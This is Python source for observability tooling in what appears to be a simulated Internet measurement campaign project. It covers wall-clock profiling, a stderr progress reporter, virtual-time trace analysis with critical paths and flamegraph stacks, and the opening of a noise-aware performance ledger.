class PerfProfile:
    """The wall-clock profile: perf sideband joined to the span trees.

    Joins each perf record back to the canonical trace by span id and
    answers the question the virtual-time analysis cannot: where do the
    *real* seconds go ("stage X is 2% of virtual time but 41% of wall
    time"), which span types are wall-hot, and how well the lazy world's
    caches performed.
    """

    def __init__(self, analysis, records: list, samples: List[dict]) -> None:
        self.analysis = analysis
        self.records = records
        self.samples = samples
        self.span_wall: Dict[str, float] = {}
        self.task_wall: Dict[str, float] = {}
        #: stage ordinal -> wall seconds (parent record preferred: it
        #: covers scheduling + shipping + merge, not just probe work).
        self.stage_wall: Dict[int, float] = {}
        for record in records:
            if record.kind == "span":
                self.span_wall[record.sid] = (
                    self.span_wall.get(record.sid, 0.0) + record.wall
                )
            elif record.kind == "task":
                self.task_wall[record.sid] = record.wall
            elif record.kind == "stage" and record.sid.startswith("s"):
                try:
                    ordinal = int(record.sid[1:])
                except ValueError:
                    continue
                if record.role == "main" or ordinal not in self.stage_wall:
                    self.stage_wall[ordinal] = record.wall

    @classmethod
    def load(cls, trace_path: str, perf_dir: str) -> "PerfProfile":
        from .analyze import TraceAnalysis

        records, samples = load_perf_dir(perf_dir)
        return cls(TraceAnalysis.from_file(trace_path), records, samples)

    # -- attribution ----------------------------------------------------------

    def stage_rows(self) -> List[dict]:
        """Wall-vs-virtual attribution rows, one per stage.

        Floats are pre-rounded (µs precision) so the rows are JSON-stable:
        the performance-ledger record and ``trace profile --json`` both
        embed these rows verbatim and must join 1:1.
        """
        total_virtual = sum(s.seconds for s in self.analysis.stages)
        total_wall = sum(self.stage_wall.values())
        rows = []
        for stage in self.analysis.stages:
            wall = self.stage_wall.get(stage.ordinal, 0.0)
            rows.append(
                {
                    "ordinal": stage.ordinal,
                    "name": stage.name,
                    "probes": stage.probes,
                    "virtual": round(stage.seconds, 6),
                    "virtual_share": _pct(stage.seconds, total_virtual),
                    "wall": round(wall, 6),
                    "wall_share": _pct(wall, total_wall),
                    "wall_per_probe_us": round(
                        1e6 * wall / stage.probes if stage.probes else 0.0, 3
                    ),
                }
            )
        return rows

    def span_profile(self) -> List[dict]:
        """Per-span-name wall aggregate (self time excludes child spans)."""
        agg: Dict[str, dict] = {}

        def visit(node) -> float:
            child_wall = 0.0
            for child in node.children:
                child_wall += visit(child)
            wall = self.span_wall.get(node.sid)
            if wall is None:
                return child_wall
            row = agg.setdefault(
                node.name,
                {"name": node.name, "count": 0, "wall": 0.0, "self_wall": 0.0,
                 "virtual_self": 0.0},
            )
            row["count"] += 1
            row["wall"] += wall
            row["self_wall"] += max(0.0, wall - child_wall)
            row["virtual_self"] += node.self_seconds
            return wall

        for task in self.analysis.tasks:
            for root in task.spans:
                visit(root)
        return sorted(agg.values(), key=lambda r: (-r["self_wall"], r["name"]))

    # -- samples --------------------------------------------------------------

    def resource_rows(self) -> List[dict]:
        by_role: Dict[str, dict] = {}
        for sample in self.samples:
            role = str(sample.get("role", "?"))
            row = by_role.setdefault(
                role,
                {"role": role, "samples": 0, "rss_peak_kb": 0, "rss_last_kb": 0,
                 "gc_collections": 0},
            )
            row["samples"] += 1
            rss = int(sample.get("rss_kb", 0))
            row["rss_peak_kb"] = max(row["rss_peak_kb"], rss)
            row["rss_last_kb"] = rss
            gc_info = sample.get("gc") or {}
            row["gc_collections"] = int(gc_info.get("collections", 0))
        return sorted(by_role.values(), key=lambda r: _role_order(r["role"]))

    def final_counters(self) -> Dict[str, Dict[str, int]]:
        """Last sampled counter snapshot per role."""
        out: Dict[str, Dict[str, int]] = {}
        for sample in self.samples:
            counters = sample.get("counters")
            if counters:
                out[str(sample.get("role", "?"))] = counters
        return out

    # -- folded wall stacks ---------------------------------------------------

    def folded_wall_stacks(self) -> str:
        """Flamegraph input weighted by *wall* self-time microseconds.

        Same ``campaign;<stage>;<probe>;<span...>`` paths as
        :meth:`~.analyze.TraceAnalysis.folded_stacks`, so the two graphs
        line up frame-for-frame; only the sample weights differ.
        """
        weights: Dict[str, int] = {}

        def add(path: str, seconds: float) -> None:
            micros = int(round(seconds * 1e6))
            if micros > 0:
                weights[path] = weights.get(path, 0) + micros

        def visit(prefix: str, node) -> float:
            path = f"{prefix};{node.name}"
            child_wall = 0.0
            for child in node.children:
                child_wall += visit(path, child)
            wall = self.span_wall.get(node.sid)
            if wall is None:
                return child_wall
            add(path, max(0.0, wall - child_wall))
            return wall

        stage_task_wall: Dict[int, float] = {}
        for task in self.analysis.tasks:
            stage = (
                self.analysis._stages_by_ordinal.get(task.stage_ordinal)
                if task.stage_ordinal is not None
                else None
            )
            stage_label = stage.name if stage is not None else "(no stage)"
            base = f"campaign;{stage_label};{task.probe or task.scope}"
            span_wall = 0.0
            for root in task.spans:
                span_wall += visit(base, root)
            wall = self.task_wall.get(task.scope)
            if wall is not None:
                add(base, max(0.0, wall - span_wall))
                if task.stage_ordinal is not None:
                    stage_task_wall[task.stage_ordinal] = (
                        stage_task_wall.get(task.stage_ordinal, 0.0) + wall
                    )
        # Stage overhead not inside any task: scheduling, event shipping,
        # result merge.
        for ordinal, wall in self.stage_wall.items():
            stage = self.analysis._stages_by_ordinal.get(ordinal)
            label = stage.name if stage is not None else f"s{ordinal}"
            add(
                f"campaign;{label}",
                max(0.0, wall - stage_task_wall.get(ordinal, 0.0)),
            )
        return "\n".join(f"{path} {weights[path]}" for path in sorted(weights))

    # -- machine-readable export ----------------------------------------------

    def to_dict(self, *, top_spans: int = 15) -> dict:
        """The ``trace profile --json`` payload.

        ``stages`` holds exactly the rows :meth:`stage_rows` computes —
        the same rows a profiled run's performance-ledger record embeds,
        so the two sources always join 1:1.
        """
        total_wall = sum(self.stage_wall.values())
        total_virtual = sum(s.seconds for s in self.analysis.stages)
        counters: Dict[str, int] = {}
        for role_counters in self.final_counters().values():
            for key, value in role_counters.items():
                counters[key] = counters.get(key, 0) + int(value)
        return {
            "records": len(self.records),
            "samples": len(self.samples),
            "roles": sorted({r.role for r in self.records}, key=_role_order),
            "stage_wall_seconds": total_wall,
            "virtual_seconds": total_virtual,
            "stages": self.stage_rows(),
            "spans": self.span_profile()[:top_spans],
            "counters": {key: counters[key] for key in sorted(counters)},
            "resources": self.resource_rows(),
        }

    # -- rendering ------------------------------------------------------------

    def render_stage_table(self) -> str:
        lines = [
            "| # | stage | probes | virtual s | virtual % | wall s | wall % "
            "| wall µs/probe |",
            "|---|---|---|---|---|---|---|---|",
        ]
        for row in self.stage_rows():
            lines.append(
                f"| {row['ordinal']} | {row['name']} | {row['probes']} "
                f"| {row['virtual']:.1f} | {row['virtual_share']} "
                f"| {_fmt_seconds(row['wall'])} | {row['wall_share']} "
                f"| {row['wall_per_probe_us']:.0f} |"
            )
        return "\n".join(lines)

    def render_span_table(self, top: int = 15) -> str:
        lines = [
            "| span | count | wall s | wall self s | mean µs | virtual self s |",
            "|---|---|---|---|---|---|",
        ]
        for row in self.span_profile()[:top]:
            mean_us = 1e6 * row["wall"] / row["count"] if row["count"] else 0.0
            lines.append(
                f"| {row['name']} | {row['count']} "
                f"| {_fmt_seconds(row['wall'])} "
                f"| {_fmt_seconds(row['self_wall'])} | {mean_us:.0f} "
                f"| {row['virtual_self']:.1f} |"
            )
        return "\n".join(lines)

    def render_cache_table(self) -> str:
        per_role = self.final_counters()
        if not per_role:
            return "(no counter samples recorded)"
        totals: Dict[str, int] = {}
        for counters in per_role.values():
            for key, value in counters.items():
                totals[key] = totals.get(key, 0) + int(value)
        lines = ["| counter | total |", "|---|---|"]
        for key in sorted(totals):
            lines.append(f"| {key} | {totals[key]:,} |")
        derived = [
            ("population chunk hit rate", "population.chunk_hits",
             "population.chunk_misses"),
            ("fleet layout hit rate", "fleet.layout_hits", "fleet.layout_misses"),
            ("dns resolver hit rate", "dns.resolver.cache_hits",
             "dns.resolver.queries"),
        ]
        extras = []
        for label, hit_key, other_key in derived:
            hits = totals.get(hit_key, 0)
            if other_key == "dns.resolver.queries":
                total = totals.get(other_key, 0)
            else:
                total = hits + totals.get(other_key, 0)
            if total:
                extras.append(f"- {label}: {_rate(hits, total)}")
        if extras:
            lines.append("")
            lines.extend(extras)
        return "\n".join(lines)

    def render_resource_table(self) -> str:
        rows = self.resource_rows()
        if not rows:
            return "(no resource samples recorded)"
        lines = [
            "| role | samples | peak RSS MB | final RSS MB | gc collections |",
            "|---|---|---|---|---|",
        ]
        for row in rows:
            lines.append(
                f"| {row['role']} | {row['samples']} "
                f"| {row['rss_peak_kb'] / 1024.0:.1f} "
                f"| {row['rss_last_kb'] / 1024.0:.1f} "
                f"| {row['gc_collections']} |"
            )
        return "\n".join(lines)

    def render_markdown(self, *, top_spans: int = 15) -> str:
        """The ``trace profile`` document."""
        total_wall = sum(self.stage_wall.values())
        total_virtual = sum(s.seconds for s in self.analysis.stages)
        roles = sorted({r.role for r in self.records}, key=_role_order)
        parts = [
            "# Wall-clock profile",
            "",
            f"- perf records: {len(self.records):,} spans/tasks/stages; "
            f"samples: {len(self.samples):,}; roles: {', '.join(roles) or '—'}",
            f"- stage wall time: {total_wall:.2f} s for "
            f"{total_virtual:,.0f} virtual s "
            f"({total_virtual / total_wall:,.0f}x real-time)"
            if total_wall > 0
            else f"- stage wall time: (no stage records)",
            "",
            "## Wall vs virtual attribution by stage",
            "",
            self.render_stage_table(),
            "",
            f"## Hottest span types (wall self-time, top {top_spans})",
            "",
            self.render_span_table(top=top_spans),
            "",
            "## Cache efficiency (final counter samples)",
            "",
            self.render_cache_table(),
            "",
            "## Resource usage by role",
            "",
            self.render_resource_table(),
            "",
        ]
        return "\n".join(parts)
