"""Live campaign progress: an operator-facing stderr reporter.

A four-month campaign compressed into a silent multi-minute process is
operationally opaque; this reporter gives the operator one updating line
per stage — tasks done/total, wall-clock probe throughput, retry and
refusal counts, and an ETA — exactly the view a real Internet-scale scan
console shows.

Wall clock is allowed here, deliberately: progress output is rendered to
*stderr* for a human and is never byte-compared, so the DESIGN.md ban on
wall-clock in **trace payloads** does not apply.  The reporter touches
neither the tracer nor the metrics registry; attaching it cannot change
any trace, report, or CSV byte (``tests/obs/test_progress.py`` asserts
the trace half of that).

Rendering is throttled by wall clock (default: at most one repaint per
0.2 s) so the reporter adds no measurable overhead at tens of thousands
of probes per second; the stage's final state is always rendered.
"""

from __future__ import annotations

import sys
import time
from typing import Callable, Optional, TextIO


def _format_eta(seconds: float) -> str:
    if seconds < 0:
        return "-"
    if seconds < 60:
        return f"{seconds:.0f}s"
    minutes, secs = divmod(int(seconds), 60)
    if minutes < 60:
        return f"{minutes}m{secs:02d}s"
    hours, minutes = divmod(minutes, 60)
    return f"{hours}h{minutes:02d}m"


class ProgressReporter:
    """Throttled single-line stage progress, rendered to ``stream``.

    The executor drives it: :meth:`begin_stage` once per stage,
    :meth:`task_done` after every completed task (with the stage's
    live :class:`~repro.exec.metrics.StageMetrics`), and
    :meth:`end_stage` when the work list is drained.
    """

    def __init__(
        self,
        stream: Optional[TextIO] = None,
        *,
        min_interval: float = 0.2,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.stream = stream if stream is not None else sys.stderr
        self.min_interval = min_interval
        self.clock = clock
        #: optional :class:`repro.obs.perf.PerfRecorder`; when attached
        #: the line also shows live RSS and the perf sample count (same
        #: stderr-only wall-clock exemption as the rest of this module).
        self.perf = None
        self._stage: Optional[str] = None
        self._total = 0
        self._done = 0
        self._started = 0.0
        self._last_render = float("-inf")
        self._last_width = 0

    # -- executor lifecycle hooks ---------------------------------------------

    def begin_stage(self, stage: str, total_tasks: int) -> None:
        self._stage = stage
        self._total = total_tasks
        self._done = 0
        self._started = self.clock()
        self._last_render = float("-inf")
        self._render(retried=0, refused=0, probes=0, force=True)

    def task_done(self, metrics) -> None:
        """One task finished; ``metrics`` is the stage's live counters."""
        if self._stage is None:
            return
        self._done += 1
        self._render(
            retried=metrics.retried,
            refused=metrics.refused,
            probes=metrics.probes_attempted,
        )

    def end_stage(self, metrics) -> None:
        if self._stage is None:
            return
        # end_stage means the work list drained; the final frame says so
        # even when throttling swallowed the last task_done repaints.
        self._done = self._total
        self._render(
            retried=metrics.retried,
            refused=metrics.refused,
            probes=metrics.probes_attempted,
            force=True,
        )
        self.stream.write("\n")
        self.stream.flush()
        self._stage = None
        self._last_width = 0

    # -- rendering -------------------------------------------------------------

    def _render(
        self, *, retried: int, refused: int, probes: int, force: bool = False
    ) -> None:
        now = self.clock()
        if not force and now - self._last_render < self.min_interval:
            return
        self._last_render = now
        elapsed = max(now - self._started, 1e-9)
        rate = probes / elapsed
        task_rate = self._done / elapsed
        if self._done >= self._total:
            eta = "done"
        elif task_rate > 0:
            eta = _format_eta((self._total - self._done) / task_rate)
        else:
            eta = "-"
        percent = 100.0 * self._done / self._total if self._total else 100.0
        line = (
            f"stage {self._stage}: {self._done}/{self._total} tasks "
            f"({percent:.0f}%) | {rate:,.0f} probes/s | "
            f"{retried} retried, {refused} refused | ETA {eta}"
        )
        if self.perf is not None:
            from .perf import rss_kb

            line += (
                f" | rss {rss_kb() / 1024:,.0f}MB"
                f" | {self.perf.sample_count} samples"
            )
        padding = " " * max(0, self._last_width - len(line))
        self._last_width = len(line)
        self.stream.write("\r" + line + padding)
        self.stream.flush()
