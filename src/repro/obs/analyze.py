"""Trace analysis: span trees, timelines, aggregates, critical path.

This is the consumption side of :mod:`repro.obs`: the tracer writes a
canonical virtual-time JSONL stream, and :class:`TraceAnalysis` answers
the operational questions a four-month measurement campaign raises —
what did probe X do and when, which stage dominates the run, where does
the virtual time go — without anyone eyeballing raw JSONL.

The analysis reconstructs three views from one pass over the events:

- **stages** (:class:`StageSummary`): one row per executed stage, with
  the task/probe/retry/refusal counters the executor stamped on
  ``stage.end`` and the stage's virtual-time extent;
- **tasks** (:class:`TaskTimeline`): one per probe task, holding the
  task's events and its reconstructed span tree
  (:class:`SpanNode` — ``smtp.transaction`` containing
  ``spf.check_host`` and so on);
- **aggregates**: per-event-name counts and per-span-name virtual
  duration distributions with exact percentiles
  (:class:`~repro.obs.metrics.Histogram`).

All durations are *virtual* seconds — differences of the virtual-time
stamps the determinism contract guarantees — so every number here is
itself byte-stable across executors for the same seed.

Outputs: :meth:`TraceAnalysis.render_markdown` (the ``trace summary``
CLI body and the report's Observability section) and
:meth:`TraceAnalysis.folded_stacks` (``path;path;leaf <µs>`` lines that
flamegraph tooling consumes directly).
"""

from __future__ import annotations

import datetime as _dt
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from .metrics import Histogram
from .records import ParsedEvent, from_tracer, load_jsonl, parse_jsonl
from .trace import Tracer


def _seconds(
    begin: Optional[_dt.datetime], end: Optional[_dt.datetime]
) -> float:
    if begin is None or end is None:
        return 0.0
    return max(0.0, (end - begin).total_seconds())


@dataclass
class SpanNode:
    """One reconstructed span: a ``<name>.begin`` / ``<name>.end`` pair."""

    sid: str
    name: str
    begin: ParsedEvent
    end: Optional[ParsedEvent] = None
    children: List["SpanNode"] = field(default_factory=list)

    @property
    def seconds(self) -> float:
        """Virtual duration; 0 when the end event never arrived."""
        return _seconds(self.begin.vt, self.end.vt if self.end else None)

    @property
    def self_seconds(self) -> float:
        """Virtual duration not covered by child spans (floored at 0)."""
        return max(0.0, self.seconds - sum(c.seconds for c in self.children))


@dataclass
class TaskTimeline:
    """One probe task's events and span tree, in canonical order."""

    scope: str
    stage_ordinal: Optional[int]
    task_index: Optional[int]
    probe: Optional[str]
    begin: ParsedEvent
    end: Optional[ParsedEvent] = None
    events: List[ParsedEvent] = field(default_factory=list)
    spans: List[SpanNode] = field(default_factory=list)

    @property
    def seconds(self) -> float:
        return _seconds(self.begin.vt, self.end.vt if self.end else None)

    @property
    def outcome(self) -> Optional[str]:
        if self.end is None:
            return None
        value = self.end.attrs.get("outcome")
        return str(value) if value is not None else None


@dataclass
class StageSummary:
    """One executed stage: declared work plus the ``stage.end`` counters."""

    ordinal: int
    name: str
    begin: ParsedEvent
    end: Optional[ParsedEvent] = None
    declared_tasks: int = 0
    task_count: int = 0
    event_count: int = 0

    def _end_attr(self, key: str) -> int:
        if self.end is None:
            return 0
        return int(self.end.attrs.get(key, 0) or 0)

    @property
    def probes(self) -> int:
        return self._end_attr("probes")

    @property
    def retried(self) -> int:
        return self._end_attr("retried")

    @property
    def refused(self) -> int:
        return self._end_attr("refused")

    @property
    def queries(self) -> int:
        return self._end_attr("queries")

    @property
    def sim_seconds(self) -> float:
        if self.end is None:
            return 0.0
        return float(self.end.attrs.get("sim_seconds", 0.0) or 0.0)

    @property
    def seconds(self) -> float:
        """Virtual extent from ``stage.begin`` to ``stage.end``."""
        return _seconds(self.begin.vt, self.end.vt if self.end else None)


@dataclass(frozen=True)
class CriticalStep:
    """One hop of the critical path: run → stage → task → span chain."""

    kind: str
    label: str
    seconds: float


class TraceAnalysis:
    """Everything the toolkit derives from one canonical trace."""

    def __init__(self, events: Sequence[ParsedEvent]) -> None:
        self.events: List[ParsedEvent] = list(events)
        self.stages: List[StageSummary] = []
        self.tasks: List[TaskTimeline] = []
        self.name_counts: Counter = Counter()
        self._tasks_by_scope: Dict[str, TaskTimeline] = {}
        self._stages_by_ordinal: Dict[int, StageSummary] = {}
        self._build()

    # -- construction ---------------------------------------------------------

    @classmethod
    def from_file(cls, path: str) -> "TraceAnalysis":
        return cls(load_jsonl(path))

    @classmethod
    def from_text(cls, text: str) -> "TraceAnalysis":
        return cls(parse_jsonl(text))

    @classmethod
    def from_tracer(cls, tracer: Tracer) -> "TraceAnalysis":
        return cls(from_tracer(tracer))

    def _build(self) -> None:
        open_spans: Dict[str, SpanNode] = {}
        for event in self.events:
            self.name_counts[event.name] += 1
            stage_ord, task_idx = event.stage_ordinal, event.task_index
            if stage_ord is not None:
                stage = self._stages_by_ordinal.get(stage_ord)
                if stage is not None:
                    stage.event_count += 1

            if event.name == "stage.begin" and task_idx is None:
                ordinal = stage_ord if stage_ord is not None else len(self.stages)
                stage = StageSummary(
                    ordinal=ordinal,
                    name=str(event.attrs.get("stage", f"s{ordinal}")),
                    begin=event,
                    declared_tasks=int(event.attrs.get("tasks", 0) or 0),
                    event_count=1,
                )
                self.stages.append(stage)
                self._stages_by_ordinal[ordinal] = stage
                continue
            if event.name == "stage.end" and task_idx is None:
                stage = self._stages_by_ordinal.get(stage_ord or 0)
                if stage is not None:
                    stage.end = event
                continue

            if event.name == "task.begin" and task_idx is not None:
                task = TaskTimeline(
                    scope=event.scope,
                    stage_ordinal=stage_ord,
                    task_index=task_idx,
                    probe=event.probe,
                    begin=event,
                )
                task.events.append(event)
                self.tasks.append(task)
                self._tasks_by_scope[event.scope] = task
                stage = self._stages_by_ordinal.get(stage_ord) if stage_ord is not None else None
                if stage is not None:
                    stage.task_count += 1
                continue

            task = self._tasks_by_scope.get(event.scope)
            if task is not None:
                task.events.append(event)
                if event.name == "task.end":
                    task.end = event

            # Span reconstruction: a `<name>.begin` whose `span` field is
            # set opens that span id; the matching `<name>.end` closes it.
            if event.span is not None and event.name.endswith(".begin"):
                node = SpanNode(
                    sid=event.span, name=event.name[: -len(".begin")], begin=event
                )
                parent = open_spans.get(event.parent) if event.parent else None
                if parent is not None:
                    parent.children.append(node)
                elif task is not None:
                    task.spans.append(node)
                open_spans[event.span] = node
            elif event.span is not None and event.name.endswith(".end"):
                node = open_spans.pop(event.span, None)
                if node is not None:
                    node.end = event

    # -- basic aggregates -----------------------------------------------------

    @property
    def virtual_start(self) -> Optional[_dt.datetime]:
        stamps = [e.vt for e in self.events if e.vt is not None]
        return min(stamps) if stamps else None

    @property
    def virtual_end(self) -> Optional[_dt.datetime]:
        stamps = [e.vt for e in self.events if e.vt is not None]
        return max(stamps) if stamps else None

    @property
    def virtual_seconds(self) -> float:
        return _seconds(self.virtual_start, self.virtual_end)

    def timeline(self, probe: str) -> List[ParsedEvent]:
        """Every event emitted while ``probe`` (``<suite>/<ip>``) ran."""
        return [e for e in self.events if e.probe == probe]

    def task_duration_histogram(self) -> Histogram:
        histogram = Histogram("trace.task_seconds")
        for task in self.tasks:
            histogram.observe(task.seconds)
        return histogram

    def span_duration_histograms(self) -> Dict[str, Histogram]:
        """Per-span-name virtual-duration distributions (exact percentiles)."""
        out: Dict[str, Histogram] = {}

        def visit(node: SpanNode) -> None:
            out.setdefault(node.name, Histogram(node.name)).observe(node.seconds)
            for child in node.children:
                visit(child)

        for task in self.tasks:
            for root in task.spans:
                visit(root)
        return out

    # -- critical path --------------------------------------------------------

    def critical_path(self) -> List[CriticalStep]:
        """Attribute virtual time along run → stage → task → span chain.

        Stages execute sequentially in virtual time, so the run's
        duration is (close to) the sum of stage durations; the path
        descends into the *longest* stage, then the task whose end stamp
        closes that stage (the virtual-time straggler), then the
        dominant span chain inside it.
        """
        steps: List[CriticalStep] = [
            CriticalStep("run", "campaign", self.virtual_seconds)
        ]
        if not self.stages:
            return steps
        stage = max(self.stages, key=lambda s: s.seconds)
        steps.append(CriticalStep("stage", stage.name, stage.seconds))
        tasks = [t for t in self.tasks if t.stage_ordinal == stage.ordinal]
        if not tasks:
            return steps
        def end_stamp(t: TaskTimeline) -> Optional[_dt.datetime]:
            if t.end is not None and t.end.vt is not None:
                return t.end.vt
            return t.begin.vt

        stamped = [t for t in tasks if end_stamp(t) is not None]
        if stamped:
            task = max(stamped, key=lambda t: (end_stamp(t), -(t.task_index or 0)))
        else:
            task = max(tasks, key=lambda t: t.seconds)
        steps.append(
            CriticalStep("task", task.probe or task.scope, task.seconds)
        )
        nodes = task.spans
        while nodes:
            node = max(nodes, key=lambda n: n.seconds)
            steps.append(CriticalStep("span", node.name, node.seconds))
            nodes = node.children
        return steps

    # -- folded stacks ---------------------------------------------------------

    def folded_stacks(self) -> str:
        """Flamegraph input: ``campaign;<stage>;<probe>;<span...> <µs>``.

        Sample values are integer *virtual* microseconds of self time
        (node duration minus child spans), so the graph shows where the
        campaign's simulated time went; feed it straight to
        ``flamegraph.pl`` or any compatible renderer.
        """
        weights: Dict[str, int] = {}

        def add(path: str, seconds: float) -> None:
            micros = int(round(seconds * 1e6))
            if micros > 0:
                weights[path] = weights.get(path, 0) + micros

        def visit(prefix: str, node: SpanNode) -> None:
            path = f"{prefix};{node.name}"
            add(path, node.self_seconds)
            for child in node.children:
                visit(path, child)

        for task in self.tasks:
            stage = (
                self._stages_by_ordinal.get(task.stage_ordinal)
                if task.stage_ordinal is not None
                else None
            )
            stage_label = stage.name if stage is not None else "(no stage)"
            base = f"campaign;{stage_label};{task.probe or task.scope}"
            root_seconds = sum(root.seconds for root in task.spans)
            add(base, max(0.0, task.seconds - root_seconds))
            for root in task.spans:
                visit(base, root)
        return "\n".join(f"{path} {weights[path]}" for path in sorted(weights))

    # -- machine-readable export ----------------------------------------------

    def to_dict(self, *, top_events: int = 20) -> dict:
        """The ``trace summary --json`` payload: every table, typed.

        Same content as :meth:`render_markdown` — stages, critical path,
        span-duration percentiles, event counts — as plain JSON-ready
        values, so scripts (and the performance ledger's join tests)
        never scrape markdown.
        """
        start, end = self.virtual_start, self.virtual_end
        stages = [
            {
                "ordinal": stage.ordinal,
                "name": stage.name,
                "tasks": stage.task_count,
                "declared_tasks": stage.declared_tasks,
                "probes": stage.probes,
                "retried": stage.retried,
                "refused": stage.refused,
                "queries": stage.queries,
                "virtual_seconds": stage.seconds,
                "sim_seconds": stage.sim_seconds,
                "events": stage.event_count,
            }
            for stage in self.stages
        ]
        spans = {
            name: histogram.to_dict()
            for name, histogram in sorted(self.span_duration_histograms().items())
        }
        ranked = sorted(self.name_counts.items(), key=lambda kv: (-kv[1], kv[0]))
        return {
            "events": len(self.events),
            "distinct_names": len(self.name_counts),
            "stages": stages,
            "tasks": len(self.tasks),
            "virtual_start": start.isoformat() if start is not None else None,
            "virtual_end": end.isoformat() if end is not None else None,
            "virtual_seconds": self.virtual_seconds,
            "critical_path": [
                {"kind": step.kind, "label": step.label, "seconds": step.seconds}
                for step in self.critical_path()
            ],
            "spans": spans,
            "task_seconds": self.task_duration_histogram().to_dict(),
            "event_counts": dict(ranked[:top_events]),
        }

    # -- rendering -------------------------------------------------------------

    def render_stage_table(self) -> str:
        lines = [
            "| # | stage | tasks | probes | retried | refused | queries "
            "| virtual s | events |",
            "|---|---|---|---|---|---|---|---|---|",
        ]
        for stage in self.stages:
            lines.append(
                f"| {stage.ordinal} | {stage.name} | {stage.task_count} "
                f"| {stage.probes} | {stage.retried} | {stage.refused} "
                f"| {stage.queries} | {stage.seconds:.1f} | {stage.event_count} |"
            )
        return "\n".join(lines)

    def render_span_table(self) -> str:
        lines = [
            "| span | count | p50 s | p90 s | p99 s | max s |",
            "|---|---|---|---|---|---|",
        ]
        histograms = self.span_duration_histograms()
        task_histogram = self.task_duration_histogram()
        if task_histogram.count:
            histograms = dict(histograms)
            histograms["(task)"] = task_histogram
        for name in sorted(histograms):
            d = histograms[name].to_dict()
            if not d.get("count"):
                continue
            lines.append(
                f"| {name} | {d['count']} | {d['p50']:.3g} | {d['p90']:.3g} "
                f"| {d['p99']:.3g} | {d['max']:.3g} |"
            )
        return "\n".join(lines)

    def render_event_table(self, top: int = 20) -> str:
        total = max(1, len(self.events))
        lines = ["| event | count | share |", "|---|---|---|"]
        ranked = sorted(self.name_counts.items(), key=lambda kv: (-kv[1], kv[0]))
        for name, count in ranked[:top]:
            lines.append(f"| {name} | {count} | {100.0 * count / total:.1f}% |")
        if len(ranked) > top:
            rest = sum(count for _, count in ranked[top:])
            lines.append(f"| ({len(ranked) - top} more) | {rest} | "
                         f"{100.0 * rest / total:.1f}% |")
        return "\n".join(lines)

    def render_critical_path(self) -> str:
        lines = []
        for step in self.critical_path():
            lines.append(f"- {step.kind}: `{step.label}` — {step.seconds:.1f} s")
        return "\n".join(lines)

    def render_markdown(self, *, top_events: int = 20) -> str:
        """The ``trace summary`` document."""
        start, end = self.virtual_start, self.virtual_end
        window = (
            f"{start.isoformat()} → {end.isoformat()}"
            if start is not None and end is not None
            else "(no virtual-time stamps)"
        )
        parts = [
            "# Trace summary",
            "",
            f"- events: {len(self.events):,} ({len(self.name_counts)} distinct names)",
            f"- stages: {len(self.stages)}; tasks: {len(self.tasks):,}",
            f"- virtual window: {window} ({self.virtual_seconds:,.0f} s)",
            "",
            "## Stages",
            "",
            self.render_stage_table(),
            "",
            "## Critical path (virtual time)",
            "",
            self.render_critical_path(),
            "",
            "## Span durations (virtual seconds, exact percentiles)",
            "",
            self.render_span_table(),
            "",
            f"## Event counts (top {top_events})",
            "",
            self.render_event_table(top=top_events),
            "",
        ]
        return "\n".join(parts)


def analyze_file(path: str) -> TraceAnalysis:
    """Convenience wrapper: :meth:`TraceAnalysis.from_file`."""
    return TraceAnalysis.from_file(path)
