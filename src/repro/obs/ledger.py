"""Cross-run performance ledger: persist measurements, detect regressions.

Everything else in :mod:`repro.obs` looks at *one* run in depth — the
tracer records it, ``trace profile`` attributes its wall time, the perf
sideband samples its memory.  None of it persists across runs: the
benchmark trajectory is invisible PR-over-PR, and a hot-path
optimization has no instrument that proves (or protects) its win.  The
ledger is that instrument: an append-only JSONL history of compact
per-run performance records, plus a noise-aware comparator that can say
"candidate is slower than baseline *and the machine can resolve the
difference*" — or refuse to cry wolf when it cannot.

Record shape (one JSON object per line, compact, sorted keys)::

    {"v": 1, "kind": "run", "ts": 1723100000.0,
     "config_hash": "<sha256 of the RunConfig semantic fields>",
     "env": {"cpus": 1, "python": "3.11.7",
             "git_commit": "5a9d62d...", "git_dirty": false},
     "scale": 0.02, "seed": 20211011,
     "executor": "SerialExecutor", "workers": 1, "world": "lazy",
     "wall_seconds": 6.1, "probe_wall_seconds": 5.2,
     "sim_seconds": 9676800.0, "probes": 38000,
     "probes_per_second": 7300.0, "retried": 0, "refused": 12,
     "counters": {"population.chunk_hits": ..., ...},
     "stages": [...], "noise": null}

- ``kind`` is ``run`` / ``resume`` (CLI campaigns), ``record`` (a
  retroactive ``obs record``), or ``bench`` (a ``BENCH_*.json``
  emission mirrored by ``benchmarks/conftest.emit_json``; its scalar
  payload lands under ``metrics``).
- ``config_hash`` is :meth:`repro.api.RunConfig.content_hash`, so a
  history can be filtered down to byte-comparable experiments.
- ``env`` carries machine + commit provenance
  (:func:`environment_info`): bench numbers are meaningless without
  knowing what produced them.
- ``stages`` is present when the run was profiled (``--perf``): the
  exact wall-vs-virtual stage attribution rows of
  :meth:`repro.obs.perf.PerfProfile.stage_rows`, i.e. the same rows
  ``trace profile --json`` emits — the ledger and the profiler never
  disagree because they share the join.
- ``noise`` optionally declares the machine's measured wall-noise
  spread (identical-run max/min − 1) so later comparisons can gate on
  it; ``null`` means "not measured".

The ledger is a **performance artifact**, not a determinism artifact:
like ``--metrics-out`` it may carry wall-clock values and timestamps.
Writing it never touches a deterministic code path — trace, CSV, and
report bytes are identical with the ledger on or off.

Noise-aware comparison
----------------------

:func:`compare` promotes the order-alternating pair-ratio protocol of
``benchmarks/bench_perf.py`` into a reusable primitive.  Baseline and
candidate samples are paired index-wise (most recent aligned last), the
per-pair ratio is taken, and the **median ratio** is the measured
change: two paired measurements taken close together share the
machine's momentary state, so host-level slowdowns inflate both legs
and cancel in the ratio.  The gate is explicit about what it can
resolve:

- ``noise`` = max(declared noise of the records, the spread of the
  baseline samples, the caller's floor).  It is the measurement's own
  error bar.
- a change worse than ``threshold`` **and** worse than ``noise`` is a
  confirmed ``regression`` (exit 1 from ``obs regress``);
- a change worse than ``threshold`` but within ``noise`` is
  ``noise-mooted``: recorded loudly, never asserted — wall clock on
  this machine cannot distinguish it from nothing (the same
  honest-numbers policy ``bench_perf.py`` applies to its overhead
  budget);
- a change *better* than both is an ``improvement``; anything else is
  ``ok``.
"""

from __future__ import annotations

import json
import os
import platform
import subprocess
import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

